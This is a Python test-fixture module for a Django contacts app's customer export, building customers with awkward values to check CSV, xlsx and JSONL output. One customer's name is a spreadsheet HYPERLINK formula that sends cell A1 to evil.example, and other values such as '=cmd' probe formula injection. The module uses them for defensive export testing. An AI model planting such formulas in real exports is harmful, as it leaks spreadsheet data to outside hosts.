"""A channel with a custom key of every type and customers holding awkward values (R-E1).

Shared by the export's tests: the resource, the round trip, the pages, the admin, the browser.
"""

import io
import json

import openpyxl
from django.core.management import call_command

from contacts.models import ProfileKey
from imports.engine.reading import open_table
from tests.factories import CustomerFactory

KEY_TYPES = {
    "note": "string",
    "fax": "phone",
    "points": "number",
    "birthday": "date",
    "visitedAt": "datetime",
    "vip": "boolean",
    "interests": "list",
    "scores": "listOfNumber",
    "segments": "tag",
}
MEMBER_HEADERS = [
    "memberId", "name", "email", "mobileNumber", "landlineNumber", "unsubscribeEmail",
    "unsubscribeTexting", "birthday", "fax", "interests", "note", "points", "scores",
    "segments", "vip", "visitedAt",
]  # fmt: skip
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def awkward_channel(channel) -> dict:
    """Add the keys and customers; return the customers by a short name."""
    for name, type_name in KEY_TYPES.items():
        ProfileKey.objects.create(channel=channel, name=name, label=name.title(), type=type_name)
    full = {
        "note": '-- 김민지 님, "VIP"\nsecond line',
        "fax": "+14155550123",
        "points": -12.5,
        "birthday": "2025-05-04",
        "visitedAt": "2025-05-04T00:00:00.000Z",
        "vip": False,
        "interests": ["=cmd", "b, c", "김치"],
        "scores": [1, -2.5, 0.1],
        "segments": ["vip", "basic/level1"],
    }
    return {
        "full": CustomerFactory(
            channel=channel, member_id="M1", name=FORMULA_NAME, email="kim@example.com",
            mobile_number="+821020203030", mobile_verified=True, landline_number="+8225556666",
            unsubscribe_email=True, unsubscribe_texting=False, profile=full,
            import_tags=["spring"],
        ),
        "empty": CustomerFactory(
            channel=channel, member_id="M2", name="", email=None, profile={},
        ),
        "symbols": CustomerFactory(
            channel=channel, member_id="@home", name="O'Brien", email="o.brien@example.com",
            unsubscribe_email=False, unsubscribe_texting=False,
            profile={"note": "'=already quoted", "points": 7, "vip": True, "scores": [1e-05]},
        ),
        "dash": CustomerFactory(
            channel=channel, member_id="-007", name="+1 not a phone", email=None,
            profile={"note": "+", "points": 0.0},
        ),
        "hidden": CustomerFactory(
            channel=channel, member_id="M-hidden", email="hidden@example.com", is_hidden=True,
        ),
        "blocked": CustomerFactory(
            channel=channel, member_id="M-blocked", email="blocked@example.com",
            is_blocked=True, profile={"note": "@blocked"},
        ),
        "lead": CustomerFactory(
            channel=channel, name="Lee", email="lee@example.com", mobile_number="+821055556666",
            mobile_verified=True, unsubscribe_email=False, unsubscribe_texting=True,
            profile={"interests": ["-x"], "birthday": "1990-01-31"},
        ),
        "mobile_lead": CustomerFactory(
            channel=channel, name="Park", email=None, mobile_number="+821077778888",
            mobile_verified=True, profile={"points": 3},
        ),
    }  # fmt: skip


def sheet_rows(data: bytes) -> list[list]:
    """Every row of an .xlsx file's first sheet, as openpyxl reads it (empty cells None)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


def file_rows(data: bytes) -> list[list[str]]:
    """The header and rows of a CSV or .xlsx file as the importer reads them."""
    with open_table(io.BytesIO(data)) as table:
        return [table.headers] + [cells for _, cells, _ in table.rows()]


def customers_json(slug: str) -> list[dict]:
    """Every customer of the channel as ``export_customers --format jsonl`` writes it."""
    out = io.StringIO()
    call_command("export_customers", slug, "--format", "jsonl", stdout=out)
    return [json.loads(line) for line in out.getvalue().splitlines()]
